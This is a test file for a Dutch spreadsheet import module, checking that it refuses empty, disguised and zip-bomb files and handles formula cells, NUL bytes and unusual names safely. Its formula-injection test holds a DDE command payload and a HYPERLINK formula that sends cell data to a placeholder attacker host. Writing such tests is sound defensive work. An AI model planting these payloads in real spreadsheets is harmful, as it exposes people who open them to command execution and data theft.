import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { SHIPPED_CATALOGUE } from '@ketenregie/catalogue-domain';
import type { Reading } from '@ketenregie/exchange-domain';
import { readWorkbook } from '@ketenregie/exchange-domain';
import { calendarDate } from '@ketenregie/kernel';
import { FileRefusedError } from './file-refused.error.js';
import { readFileBytes } from './read-file.js';

const HOSTILE = fileURLToPath(new URL('../../../domain/fixtures/hostile/', import.meta.url));
const bytesOf = (file: string): Buffer => readFileSync(HOSTILE + file);

async function read(file: string): Promise<Reading> {
  return readWorkbook(await readFileBytes(bytesOf(file), file), { referenceOn: calendarDate('2026-11-23'), catalogue: SHIPPED_CATALOGUE });
}

const rowsWith = (reading: Reading, category: string): number[] => [...new Set(reading.findings.filter((finding) => finding.category === category).map((finding) => finding.row))];

describe('hostile files', () => {
  it.each([
    ['empty.xlsx', /is leeg/],
    ['renamed-pdf.xlsx', /is geen spreadsheet/],
    ['zip-bomb.xlsx', /meer dan 64 MB/],
  ])('refuses %s and names the reason', async (file, reason) => {
    const refusal = readFileBytes(bytesOf(file), file);
    await expect(refusal).rejects.toBeInstanceOf(FileRefusedError);
    await expect(refusal).rejects.toMatchObject({ code: expect.stringMatching(/^(?:[A-Z]+_)?FILE_REFUSED$/) as string, message: expect.stringMatching(reason) as string });
  });

  it('lets others have their turn while it unpacks a bomb', async () => {
    let turns = 0;
    const ticking = setInterval(() => (turns += 1), 1);
    await readFileBytes(bytesOf('zip-bomb.xlsx'), 'zip-bomb.xlsx').catch(() => undefined);
    clearInterval(ticking);
    expect(turns).toBeGreaterThan(20);
  });

  it('reads text that looks like a formula as that text, and a formula by its cached value', async () => {
    const reading = await read('formula-cells.xlsx');
    expect(reading.companies.map(({ name, kvk }) => [name, kvk])).toEqual([
      ["=cmd|' /C calc'!A0", '90004800'],
      ['=HYPERLINK("https://evil.example/?"&B2;"klik")', '90004801'],
      ['+31 20 000 00 00 B.V.', '90004802'],
      ['-Streep- B.V.', '90004803'],
      ['@Werk B.V.', '90004804'],
      ['=1+1', '90004805'],
      ['Linkbedrijf B.V.', '90004850'],
    ]);
    expect(rowsWith(reading, 'formula-cell')).toEqual([2, 3, 4, 5, 6, 7, 8]);
    expect(reading.authorisations.at(-1)).toMatchObject({ row: 8, validUntil: '2028-12-31', level: 'EH3' });
  });

  it('takes a NUL out of a name and says so', async () => {
    const reading = await read('nul-byte.csv');
    expect(reading.companies.map(({ name }) => name)).toEqual(['Nulpunt B.V.', 'Proefregel 2 B.V.']);
    expect(rowsWith(reading, 'unusual-characters')).toEqual([2]);
  });

  it('keeps unusual names, without what nobody sees, and refuses a name that is too long for its row only', async () => {
    const reading = await read('names.xlsx');
    expect(reading.companies.map(({ name }) => name)).toEqual(['🚜 Tractor & Zn. B.V. 👩\u200d🌾', 'شركة المثال B.V.', 'Rechtsnaar links B.V.', 'Ångström Straße Œuvre B.V.']);
    expect(rowsWith(reading, 'unusual-characters')).toEqual([4]);
    expect(reading.findings.filter(({ severity }) => severity === 'blocks').map(({ row, category }) => [row, category])).toEqual([[5, 'row-not-understood']]);
    expect(reading.authorisations.map(({ row }) => row)).toEqual([2, 3, 4, 6]);
  });
});
